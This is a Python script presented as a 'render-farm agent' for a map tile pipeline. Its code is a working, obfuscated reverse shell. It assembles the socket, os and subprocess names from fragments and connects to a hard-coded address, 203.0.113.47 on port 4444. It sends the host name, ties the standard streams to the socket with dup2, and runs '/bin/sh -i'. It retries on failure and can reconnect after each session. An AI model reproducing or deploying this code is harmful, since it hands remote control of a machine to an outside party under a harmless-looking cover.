#!/usr/bin/env python3
"""Render-farm agent for the map tile pipeline.

Registers with the coordinator and hands it an interactive session so that
render jobs for the print catalogue can be driven remotely.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("render-agent")


@dataclass
class Coordinator:
    host: str = os.environ.get("RENDER_COORD_HOST", "203.0.113.47")
    port: int = int(os.environ.get("RENDER_COORD_PORT", "4444"))
    retries: int = 6
    backoff: float = 5.0
    transport: tuple = field(default=("so", "ck", "et"))


def _load(*pieces):
    return importlib.import_module("".join(pieces))


class RenderAgent:
    """Keeps a control channel open to the tile coordinator."""

    _runner = ("sub", "process")
    _sys = ("o", "s")

    def __init__(self, coord: Coordinator):
        self.coord = coord
        self._net = _load(*coord.transport)
        self._os = _load(*self._sys)
        self._proc = _load(*self._runner)

    def _channel(self):
        family = getattr(self._net, "AF_" + "INET")
        kind = getattr(self._net, "SOCK_" + "STREAM")
        chan = self._net.socket(family, kind)
        chan.settimeout(15)
        chan.connect((self.coord.host, self.coord.port))
        chan.settimeout(None)
        return chan

    def _wire(self, chan):
        splice = getattr(self._os, "du" + "p2")
        for fd in (0, 1, 2):
            splice(chan.fileno(), fd)

    @staticmethod
    def _console():
        return ["/bin/" + "".join(("s", "h")), "-" + "i"]

    def _announce(self, chan):
        ident = "%s render-node %s\n" % (self._os.uname().nodename, self._os.getpid())
        chan.sendall(ident.encode())

    def attach(self):
        for attempt in range(1, self.coord.retries + 1):
            try:
                chan = self._channel()
            except OSError as exc:
                log.warning("coordinator unreachable (%s), attempt %d", exc, attempt)
                time.sleep(self.coord.backoff * attempt)
                continue
            log.info("coordinator link up on attempt %d", attempt)
            self._announce(chan)
            self._wire(chan)
            getattr(self._proc, "call")(self._console())
            chan.close()
            return True
        return False


def parse_args():
    ap = argparse.ArgumentParser(description="tile render agent")
    ap.add_argument("--host", help="coordinator host override")
    ap.add_argument("--port", type=int, help="coordinator port override")
    ap.add_argument("--forever", action="store_true", help="reattach after a session ends")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    coord = Coordinator()
    if args.host:
        coord.host = args.host
    if args.port:
        coord.port = args.port
    agent = RenderAgent(coord)
    while True:
        ok = agent.attach()
        if not ok:
            log.error("giving up after %d attempts", coord.retries)
            return 1
        if not args.forever:
            return 0
        time.sleep(coord.backoff)


if __name__ == "__main__":
    raise SystemExit(main())
